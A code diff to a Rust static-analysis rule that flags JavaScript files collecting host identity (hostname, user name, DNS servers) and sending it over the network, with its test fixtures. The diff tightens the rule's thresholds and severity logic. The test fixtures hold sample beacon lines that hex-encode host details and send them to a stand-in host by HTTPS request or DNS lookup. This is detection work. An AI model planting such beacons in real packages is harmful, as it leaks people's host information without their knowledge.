@@ -16,8 +16,8 @@ declare_rule! {
     /// ### What it does
     /// Finds files that collect identifying facts about the host (hostname, user name, home and
     /// working directories, network interfaces, DNS servers), encode or serialise them, and make
-    /// network or DNS requests: two sources with a network call is medium, three or more
-    /// serialised ones high.
+    /// network or DNS requests: three sources (one of them a real identifier such as the
+    /// hostname or user name) with a network call is medium, serialised ones high.
     ///
     /// ### Why is this bad?
     /// This is the beacon of dependency-confusion and reconnaissance packages (hundreds of
@@ -57,7 +57,7 @@ impl Rule for HostFingerprinting {
         }
         // `os.homedir` and `process.cwd` alone are everyday calls; require a real identifier.
         let identifying = sources.iter().any(|source| matches!(*source, "os.hostname" | "os.userInfo" | "os.networkInterfaces" | "dns.getServers" | "os.userInfo.username" | "process.env.USER" | "process.env.USERNAME" | "process.env.COMPUTERNAME" | "process.env.HOSTNAME"));
-        if sources.len() < 2 || !identifying {
+        if sources.len() < 3 || !identifying {
             return;
         }
         let serialises = facts.calls.iter().any(|call| {
@@ -65,7 +65,7 @@ impl Rule for HostFingerprinting {
                 || call.callee.ends_with("toString") && call.arguments.first().and_then(|argument| argument.constant.as_deref()).is_some_and(|encoding| encoding == "hex" || encoding == "base64")
         });
         let list: Vec<&str> = sources.into_iter().collect();
-        let severity = if list.len() >= 3 && serialises { Severity::High } else { Severity::Medium };
+        let severity = if serialises { Severity::High } else { Severity::Medium };
         out.push(file.finding(&Self::META, severity, Confidence::Medium, Some(network.offset as usize), format!("collects host identity ({}) and makes network requests", list.join(", ")), None));
     }
 }
@@ -83,7 +83,7 @@ mod tests {
         ];
         let fail = vec![
             "const os = require('os'); const https = require('https'); const d = JSON.stringify({ h: os.hostname(), u: os.userInfo().username, c: process.cwd() }); https.get('https://x.example/?d=' + Buffer.from(d).toString('hex'));".into(),
-            "const os = require('os'); const dns = require('dns'); dns.lookup(os.hostname() + '.' + dns.getServers()[0] + '.x.example', () => {});".into(),
+            "const os = require('os'); const dns = require('dns'); dns.lookup(os.hostname() + '.' + dns.getServers()[0] + process.cwd() + '.x.example', () => {});".into(),
         ];
         test_rule(HostFingerprinting::META.name, pass, fail);
     }
